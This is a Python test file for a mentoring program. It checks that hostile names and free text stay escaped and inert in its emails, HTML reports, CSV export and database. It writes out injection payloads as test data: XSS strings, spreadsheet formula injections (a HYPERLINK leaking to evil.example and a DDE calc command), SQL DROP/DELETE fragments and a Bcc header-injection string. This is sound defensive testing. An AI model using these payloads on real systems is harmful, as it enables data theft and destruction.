"""Hostile names and free text are inert: in emails, the report, the proposals CSV, the warehouse.

One program whose people type HTML, formula prefixes, quotes, SQL fragments, header breaks and
control characters into every free-text field goes through real nights (registrations, a
proposal, its acceptance, an ended relationship with a free-text reason), emails delivered to
a sink. The same program with plain names gives the reference: the HTML of every email and of
the report must have exactly the reference's tags, the hostile text appearing only escaped.
"""

from __future__ import annotations

import csv
import unicodedata
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import duckdb

from jumelage.config import Config
from jumelage.demo.files import write_csv
from jumelage.mailsink import MailSink, free_port
from tests.conftest import BASE_CONFIG, reg
from tests.nights import run_whole_night

from .helpers import MENTOR

HOSTILE = {
    "mentee": {
        "first_name": "<script>alert('x')</script>",
        "last_name": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
        "organization": "+SUM(1;2)",
        "unit": "'); drop table participants; --",
        "region": "@cmd",
    },
    "mentor": {
        "first_name": "<b>Gras</b> & \"guillemets\" 'apos'",
        "last_name": "-2+3\x07\x1b[31m",
        "organization": "=cmd|' /C calc'!A0",
        "unit": "Robert'); DROP TABLE emails;--",
        "region": "<img src=x onerror=alert(1)>",
    },
}
REASON = "<i>fini</i> =1+1 '); delete from relationships; --"
HEADER_BREAK = "Line\r\nBcc: evil@evil.example"


def _program(root: Path, port: int, hostile: bool) -> Config:
    from jumelage.config import load_config

    root.mkdir(parents=True, exist_ok=True)
    path = root / "jumelage.toml"
    path.write_text(BASE_CONFIG + f'[smtp]\nhost = "127.0.0.1"\nport = {port}\n', "utf-8")
    config = load_config(path)
    mentee = reg(email="e@x.ca", first_name="Jean", last_name="Côté")
    mentor = reg(email="m@y.ca", first_name="Marie", last_name="Roy", organization="MCC", **MENTOR)
    if hostile:
        mentee.update(HOSTILE["mentee"])
        mentor.update(HOSTILE["mentor"])
        mentor["unit"] += " " + HEADER_BREAK
    else:  # the same fields filled, plainly: the same sections of every page
        mentee.update(organization="MSSS", unit="Direction", region="Laval")
        mentor.update(organization="MCC", unit="Service", region="Estrie")
    write_csv(config.data_dir / "inbox" / "inscriptions.csv", [mentee, mentor])
    return config


def _night(config: Config, day: date, sink: MailSink) -> None:
    stats = run_whole_night(config, day)
    assert stats.error is None and not stats.failed, stats


def _events(config: Config, rows: list[dict[str, str]], name: str) -> None:
    header = ["event_date", "event_type", "email", "counterpart_email", "proposal_id", "value"]
    full = [{h: r.get(h, "") for h in header} for r in rows]
    write_csv(config.data_dir / "inbox" / name, full, header=header)


def _story(root: Path, hostile: bool) -> tuple[Config, MailSink]:
    port = free_port()
    config = _program(root, port, hostile)
    sink = MailSink(root / "sink", port=port)
    with sink:
        _night(config, date(2026, 1, 10), sink)
        con = duckdb.connect(str(config.data_dir / "warehouse.duckdb"), read_only=True)
        ((pid,),) = con.execute("select proposal_id from proposals").fetchall()
        con.close()
        accepted = {"event_type": "proposal_accepted", "email": "e@x.ca", "proposal_id": pid}
        _events(config, [{"event_date": "2026-01-12", **accepted}], "events-1.csv")
        _night(config, date(2026, 1, 13), sink)
        ended = {"event_type": "relationship_ended", "email": "e@x.ca"}
        ended |= {"counterpart_email": "m@y.ca", "value": REASON if hostile else "fini"}
        _events(config, [{"event_date": "2026-03-01", **ended}], "events-2.csv")
        _night(config, date(2026, 3, 2), sink)
    return config, sink


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data):
        self.text += data


def _parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def _controls(text: str) -> set[str]:
    return {c for c in text if unicodedata.category(c) == "Cc" and c not in "\r\n\t"}


def test_hostile_text_is_inert_everywhere(tmp_path):
    config, sink = _story(tmp_path / "hostile", hostile=True)
    ref_config, ref_sink = _story(tmp_path / "plain", hostile=False)

    # -- the warehouse: every table still there, values stored as typed (typed columns)
    con = duckdb.connect(str(config.data_dir / "warehouse.duckdb"), read_only=True)
    tables = {t for (t,) in con.execute("select table_name from information_schema.tables")
              .fetchall()}  # fmt: skip
    assert {"participants", "emails", "relationships", "registrations"} <= tables
    people = dict(
        con.execute("select role, [first_name, organization, region] from participants").fetchall()
    )
    ((reason, status),) = con.execute("select end_reason, status from relationships").fetchall()
    counts = con.execute(
        "select (select count(*) from participants), (select count(*) from relationships)"
    ).fetchall()
    con.close()
    for role in ("mentee", "mentor"):
        expected = [HOSTILE[role][k] for k in ("first_name", "organization", "region")]
        assert people[role] == [" ".join(v.split()) for v in expected]  # spaces collapsed only
    assert counts == [(2, 1)] and status == "ended"
    assert reason is None or "delete from" in reason  # kept as text, not executed

    # -- emails: the same HTML structure as with plain names; text part without controls
    def kinds(s: MailSink):
        return sorted((m["X-Jumelage-Kind"], m["To"]) for m in s.messages)

    assert kinds(sink) == kinds(ref_sink) and len(sink.messages) >= 4
    ref_by_key = {m["X-Jumelage-Key"]: m for m in ref_sink.messages}  # same ids, same keys
    for message in sink.messages:
        ref = ref_by_key[message["X-Jumelage-Key"]]
        html = message.get_body(("html",)).get_content()
        ref_html = ref.get_body(("html",)).get_content()
        assert [t for t, _ in _parse(html).tags] == [t for t, _ in _parse(ref_html).tags]
        assert "<script>alert" not in html and "<b>Gras" not in html and "<img src=x" not in html
        text = message.get_body(("plain",)).get_content()
        assert not _controls(text), (message["X-Jumelage-Kind"], _controls(text))
        assert not _controls(str(message["Subject"]))
        assert "Bcc" not in message and message.get_all("Bcc") is None
    assert all(rcpts in ([to] for to in ("e@x.ca", "m@y.ca", "coord@example.org"))
               for _, rcpts in sink.envelopes)  # fmt: skip
    proposal = next(m for m in sink.messages if m["X-Jumelage-Kind"] == "proposal")
    html = proposal.get_body(("html",)).get_content()
    assert "&lt;b&gt;Gras&lt;/b&gt;" in html  # shown, escaped

    # -- the report pages: same structure as the plain one, hostile text escaped
    for page in sorted((config.data_dir / "reports").glob("report-*.html")):
        html = page.read_text("utf-8")
        ref_html = (ref_config.data_dir / "reports" / page.name).read_text("utf-8")
        assert [t for t, _ in _parse(html).tags] == [t for t, _ in _parse(ref_html).tags], page
        assert "<script>alert" not in html and "<b>Gras" not in html and "<img src=x" not in html

    # -- the proposals CSV: no cell a spreadsheet would run as a formula
    rows = []
    for path in sorted((config.data_dir / "reports").glob("proposals-*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows += list(csv.reader(handle, delimiter=";"))[1:]
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert not _controls(cell), row
    flat = ";".join(";".join(r) for r in rows)
    assert "'=cmd|' /C calc'!A0" in flat and "'+SUM(1;2)" in flat


def test_control_characters_dropped_from_cells():
    from jumelage.normalize import clean

    assert clean("Roy\x07\x1b[31m\x00\x7f\x9b") == "Roy[31m"
    assert clean("a\tb\r\nc\x0bd\x85e") == "a b c d e"  # spacing controls become one space
    assert clean("\x07\x1b") is None
